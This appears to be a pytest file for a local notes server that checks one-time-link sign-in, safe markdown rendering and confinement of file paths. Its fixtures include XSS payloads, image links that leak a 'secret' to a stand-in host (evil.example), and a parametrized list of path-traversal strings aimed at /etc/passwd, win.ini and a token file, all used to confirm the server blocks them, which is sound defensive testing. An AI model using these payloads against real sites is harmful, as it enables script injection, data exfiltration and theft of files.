"""What a browser sees: the status page behind a one-time link, notes that can do nothing."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from notec.front.http.render import to_html
from serving import Served, serving

pytest.importorskip("starlette")
pytest.importorskip("aiohttp")

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000001"
    "e221bc330000000049454e44ae426082"
)
NOTES = {
    "Start.md": "# Start\n\nSee [[Память|memory]], ![[pixel.png]] and ![out](http://evil.example/x.png?secret).\n"
    "[click](javascript:alert(1)) <script>alert(2)</script> [out](https://evil.example/)\n",
    "Память.md": "# Память\n\nВ машине 132 гигабайта.\n",
}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("pages")
    (folder / "secret.png").write_bytes(PIXEL)
    (folder / "vault").mkdir()
    (folder / "vault" / "pixel.png").write_bytes(PIXEL)
    (folder / "vault" / "out.png").symlink_to(folder / "secret.png")
    with serving(folder, notes=NOTES) as found:
        yield found


def signed_in(served: Served) -> str:
    """The cookie that the one-time link gives."""
    path = served.sign_in.removeprefix(served.url)
    found = served.get(path, Authorization=None)
    assert found.status == 303
    return found.headers["set-cookie"].split(";")[0]


def test_a_browser_signs_in_once_and_sees_the_status_page(served: Served) -> None:
    page = {"Authorization": None, "Accept": "text/html"}
    assert served.get("/", **page).status == 401
    cookie = signed_in(served)
    assert served.get(served.sign_in.removeprefix(served.url), **page).status == 403  # it works once
    found = served.get("/", Cookie=cookie, **page)
    text = found.raw.decode()
    assert found.status == 200
    assert "<dt>notes</dt><dd>2</dd>" in text
    assert f"http://127.0.0.1:{served.port}/v1" in text
    assert served.token not in text
    assert served.get("/static/style.css", Authorization=None).headers["content-type"].startswith("text/css")


def test_ollama_clients_find_what_they_look_for_at_the_root(served: Served) -> None:
    assert served.get("/", Authorization=None).raw == b"Ollama is running"


def test_a_note_leads_to_notes_and_shows_pictures_of_the_vault(served: Served) -> None:
    found = served.get("/notes/Start.md")
    text = found.raw.decode()
    assert '<a href="/notes/%D0%9F%D0%B0%D0%BC%D1%8F%D1%82%D1%8C.md">memory</a>' in text
    assert '<img src="/pictures/pixel.png"' in text
    assert "<script" not in text
    assert 'href="http' not in text
    assert 'src="http' not in text
    assert "javascript:alert(1)" in text  # as words
    assert served.get("/pictures/pixel.png").raw == PIXEL
    assert served.get("/notes/%D0%9F%D0%B0%D0%BC%D1%8F%D1%82%D1%8C.md").status == 200


@pytest.mark.parametrize(
    "path",
    [
        "/notes/../secret.png",
        "/notes/%2e%2e/secret.png",
        "/notes/..%2fsecret.png",
        "/notes/..%252fsecret.png",
        "/notes/..%5csecret.png",
        "/notes/%c0%ae%c0%ae/secret.png",
        "/notes/%ef%bc%8e%ef%bc%8e/secret.png",
        "/notes/%e2%80%a5/secret.png",
        "/notes/Start.md%00",
        "/notes/Start.md::$DATA",
        "/notes/C:%5cwindows%5cwin.ini",
        "/notes//etc/passwd",
        "/notes/notec.toml",
        "/pictures/out.png",
        "/pictures/../secret.png",
        "/pictures/..%2f..%2fsecret.png",
        "/pictures/pixel.png%20",
        "/pictures/PIXEL.PNG",
        "/pictures/Start.md",
        "/pictures/../home/serve-token",
    ],
)
def test_no_path_leads_out_of_the_vault(served: Served, path: str) -> None:
    assert served.get(path).status == 404


def test_what_a_model_wrote_is_rendered_without_teeth(served: Served) -> None:
    text = "<img src=x onerror=alert(1)> ![a](http://evil.example/?q=secret) [b](data:text/html,x) **bold**"
    found = served.post("/notec/v1/render", {"markdown": text})
    html = found.raw.decode()
    assert "<strong>bold</strong>" in html
    assert "<img" not in html
    assert "<a " not in html
    assert "default-src 'none'" in found.headers["content-security-policy"]


@pytest.mark.parametrize(
    "text",
    [
        "[a](<javascript:alert(1)>)",
        "<javascript:alert(1)>",
        "<https://evil.example>",
        "[a]: https://evil.example\n\n[a]",
        "![[http://evil.example/x.png]]",
        "[[javascript:alert(1)|x]]",
        "<svg onload=alert(1)>",
        "[a](http://[::1)",
        "`<b>`\n\n```html\n<script>1</script>\n```",
        "| <b> |\n|---|\n| <i onclick=x> |",
        '[a](# "\\" onmouseover=alert(1)")',
    ],
)
def test_nothing_comes_alive(text: str) -> None:
    html = to_html(text)
    for alive in ("<script", "<svg", "<img", "<a ", "<b>", "<i ", 'onmouseover=alert(1)"'):
        assert alive not in html
